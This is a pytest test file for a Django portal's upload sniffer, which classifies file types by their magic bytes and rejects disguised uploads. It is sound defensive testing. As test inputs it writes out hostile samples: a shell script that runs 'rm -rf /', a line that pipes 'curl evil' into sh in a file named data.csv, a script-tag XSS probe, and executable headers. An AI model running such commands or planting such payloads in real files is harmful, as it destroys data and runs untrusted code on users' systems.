"""The one upload sniffer (portal.uploads) behind forum attachments and meeting documents."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from portal.uploads import ALLOWED_DOCUMENT_EXTENSIONS, check_attachment, check_document, sniff

PDF = b"%PDF-1.4\n%%EOF\n"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def _zip(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/").replace("_ct_", "[Content_Types]"), text)
    return buffer.getvalue()


ODT = _zip(mimetype="application/vnd.oasis.opendocument.text", content__xml="<x/>")
PPTX = _zip(**{"_ct_.xml": "<Types/>", "ppt__slide1.xml": "<x/>"})


@pytest.mark.parametrize(
    ("content", "kinds"),
    [
        (PDF, {"pdf"}),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", {"webp"}),
        (b"GIF89a" + b"\x00" * 8, {"gif"}),
        (b"\xff\xd8\xff\xe0", {"jpg", "jpeg"}),
        (ODT, {"odt"}),
        (PPTX, {"pptx"}),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 8, {"doc", "xls", "ppt"}),
        ("año,valor\n2020,1\n".encode(), {"csv", "txt"}),
        ("año,valor\n".encode("cp1252"), {"csv", "txt"}),
        (b"a,b\n" * 5000 + b"<script>alert(1)</script>", set()),  # markup deep in the file
        (b"<?xml version='1.0'?><svg/>", set()),
        (b"#!/bin/sh\nrm -rf /\n", set()),
        (b"MZ\x90\x00", set()),
        (b"\x7fELF\x02\x01", set()),
        (b"PK\x03\x04garbage", set()),
    ],
)
def test_sniff_tells_what_the_bytes_are(content, kinds):
    assert set(sniff(io.BytesIO(content))) == kinds


def test_text_files_are_documents_but_not_attachments():
    assert check_document(
        SimpleUploadedFile("notes.txt", b"hello"), max_bytes=100
    ).content_type == ("text/plain")
    with pytest.raises(ValidationError, match="not accepted"):
        check_attachment(SimpleUploadedFile("notes.txt", b"hello"))
    assert "txt" in ALLOWED_DOCUMENT_EXTENSIONS


def test_both_kinds_refuse_a_script_named_csv():
    script = b"#!/bin/sh\ncurl evil | sh\n"
    with pytest.raises(ValidationError, match="not a CSV"):
        check_attachment(SimpleUploadedFile("data.csv", script))
    with pytest.raises(ValidationError) as info:
        check_document(SimpleUploadedFile("data.csv", script), max_bytes=1000)
    assert "disguised" in info.value.message_dict["file"][0]


def test_each_kind_names_files_its_own_way():
    attachment = check_attachment(SimpleUploadedFile("Informe año (v2).PDF", PDF))
    document = check_document(SimpleUploadedFile("Informe año (v2).PDF", PDF), max_bytes=1000)
    assert (attachment.name, attachment.extension) == ("Informe año (v2).pdf", ".pdf")
    assert (document.name, document.extension) == ("Informe_ano_v2.pdf", ".pdf")
    assert attachment.content_type == document.content_type == "application/pdf"
